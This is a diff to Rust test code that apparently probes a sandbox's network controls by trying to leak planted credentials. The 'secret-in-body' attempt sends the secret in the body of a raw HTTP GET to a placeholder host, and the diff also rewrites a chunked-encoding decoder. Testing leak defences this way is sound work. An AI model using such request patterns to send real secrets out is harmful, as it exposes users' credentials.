@@ -86,13 +86,7 @@ pub(crate) const ATTEMPTS: &[Attempt] = &[
     credential(
         "secret-in-body",
         "Sends it in a body.",
-        |plants| {
-            send(
-                plants,
-                "secret-in-body",
-                "GET /open/x HTTP/1.1\r\nHost: NAME:PORT\r\nContent-Length: 16\r\nConnection: close\r\n\r\nVALUE MARK",
-            )
-        },
+        |plants| in_body(plants, "secret-in-body"),
         |host| sent(host, "secret-in-body"),
     ),
     credential(
@@ -232,18 +226,32 @@ fn send(plants: &Plants, id: &str, request: &str) -> Result<Finding, PlantError>
     })
 }
 
+fn in_body(plants: &Plants, id: &str) -> Result<Finding, PlantError> {
+    with_value(plants, |value| {
+        let length = value.len() + 1 + mark(plants, id)?.len();
+        let request = format!(
+            "GET /open/x HTTP/1.1\r\nHost: NAME:PORT\r\nContent-Length: {length}\r\nConnection: close\r\n\r\n{value} MARK"
+        );
+        beyond_grant(plants, id, &pieces(plants, id, &[&request])?)
+    })
+}
+
 fn plain(answer: &[u8]) -> Vec<u8> {
     answer.to_vec()
 }
 
-/// What chunks of one byte are in one piece.
+/// A body in one piece that comes in chunks.
 fn without_chunks(answer: &[u8]) -> Vec<u8> {
-    body(answer)
-        .split(|byte| *byte == b'\n')
-        .skip(1)
-        .step_by(2)
-        .filter_map(|line| line.first().copied())
-        .collect()
+    let (mut rest, mut whole) = (body(answer), Vec::new());
+    while let Some(end) = rest.windows(2).position(|part| part == b"\r\n") {
+        let size = std::str::from_utf8(rest.get(..end).unwrap_or_default());
+        let size = size.ok().and_then(|size| usize::from_str_radix(size.trim(), 16).ok());
+        let Some(size) = size.filter(|size| *size > 0) else { break };
+        let begin = end + 2;
+        whole.extend_from_slice(rest.get(begin..(begin + size).min(rest.len())).unwrap_or_default());
+        rest = rest.get(begin + size + 2..).unwrap_or_default();
+    }
+    whole
 }
 
 fn head(answer: &[u8]) -> &[u8] {
